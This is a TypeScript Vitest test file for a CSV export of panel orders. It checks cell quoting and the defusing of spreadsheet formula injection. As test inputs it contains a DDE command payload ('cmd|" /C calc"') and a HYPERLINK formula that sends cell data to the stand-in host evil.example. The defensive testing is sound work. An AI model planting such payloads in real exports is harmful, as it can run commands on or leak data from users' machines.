import { describe, expect, it } from 'vitest';
import { order } from '../../../testing/orders';
import { CSV_BOM, numberCell, ordersToCsv, textCell } from '../csv';

/** The cells of one CSV line, unquoted. */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"([\s\S]*)"$/, '$1').replace(/""/g, '"')).slice(0, 15);
}

describe('CSV export', () => {
  it('quotes commas, quotes and line breaks; defuses every formula in text; numbers stay numbers', () => {
    expect(textCell('a,b')).toBe('"a,b"');
    expect(textCell('say "hi"')).toBe('"say ""hi"""');
    expect(textCell('two\nlines')).toBe('"two\nlines"');
    for (const formula of ['=SUM(A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '  =1']) expect(textCell(formula).replace(/^"/, '')).toMatch(/^'/);
    expect(textCell('Instagram Followers')).toBe('Instagram Followers');
    expect(textCell(null)).toBe('');
    expect(numberCell(-20)).toBe('-20');
    expect(numberCell('-0.5')).toBe('-0.5');
    // Not an amount in the one money form: text, defused.
    expect(numberCell('-2+3+cmd|" /C calc"!A0')).toBe(`"'-2+3+cmd|"" /C calc""!A0"`);
  });

  it('no column a panel fills can carry a formula into a spreadsheet', () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const o = order('p', '-1+1', {
      service: { id: '@cmd', name: evil, type: 'Default', category: '', rate: '1', refill: null, cancel: null },
      link: '+https://x.example',
      currency: '=1+1',
      statusText: '-1+1',
      charge: '0.5',
      remains: -20,
      refills: [{ refillId: '=9', requestedAt: 0, status: 'pending', statusText: 'x', lastCheckedAt: null, missing: false }],
    });
    const line = ordersToCsv([o], [{ id: 'p', name: '@panel', apiUrl: 'https://p/api/v2', isDefault: true, lowBalanceThreshold: null, createdAt: 0 }]).slice(1).split('\r\n')[1]!;
    const cells = cellsOf(line);
    expect(cells).toHaveLength(15);
    // The one cell that starts with a sign is the number -20 (remains after over-delivery).
    expect(cells.filter((c) => /^\s*[=+\-@]|^[\t\r\n]/.test(c))).toEqual(['-20']);
    expect(cells[0]).toBe("'-1+1");
    expect(cells[2]).toBe("'@cmd");
    expect(cells[9]).toBe('0.5');
    expect(cells[10]).toBe("'=1+1");
  });

  it('one row per order with exact money, ISO dates and the panel’s name', () => {
    const at = Date.UTC(2026, 10, 24, 10, 0, 0);
    const csv = ordersToCsv(
      [
        order('p1', '42', { charge: '0.1234567', currency: 'USD', startCount: 10, remains: 250, createdAt: at, lastCheckedAt: at + 1000, statusText: 'Partial', status: 'partial', refills: [{ refillId: '9', requestedAt: at, status: 'completed', statusText: 'Completed', lastCheckedAt: null, missing: false }] }),
        order('p2', '43', { service: null, link: null, quantity: null, missing: true, createdAt: at }),
      ],
      [{ id: 'p1', name: 'Panel, One', apiUrl: 'https://p1/api/v2', isDefault: true, lowBalanceThreshold: null, createdAt: 0 }],
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Order ID,Panel,Service ID,Service,Link,Quantity,Start count,Delivered,Remains,Charge,Currency,Status,Created,Last checked,Refills',
      '42,"Panel, One",1,Instagram Followers,https://instagram.com/p/42,1000,10,750,250,0.1234567,USD,Partial,2026-11-24T10:00:00.000Z,2026-11-24T10:00:01.000Z,9: Completed',
      '43,p2,,,,,,,,,,Not found on panel,2026-11-24T10:00:00.000Z,,',
      '',
    ]);
  });
});
